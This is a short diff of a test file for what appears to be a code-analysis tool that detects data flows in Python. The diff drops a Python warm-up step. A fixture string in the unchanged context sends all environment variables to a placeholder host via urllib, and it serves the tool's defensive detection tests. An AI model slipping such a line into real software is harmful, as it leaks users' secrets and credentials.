@@ -1,10 +1,7 @@
 import t from 'tap'
-import { warmPython } from '../../src/analysis/python/summarise.ts'
 import { seenFlows } from '../../src/checks/seen-flows.ts'
 import { buildCodeIndex } from '../../src/inspection/code-index.ts'
 import { readingOf } from './python-reading.ts'
-
-await warmPython()
 
 const IMPORTS = 'import json, os, urllib.request\n'
 const SEND = 'urllib.request.urlopen("https://c.invalid", data=json.dumps(dict(os.environ)).encode())'
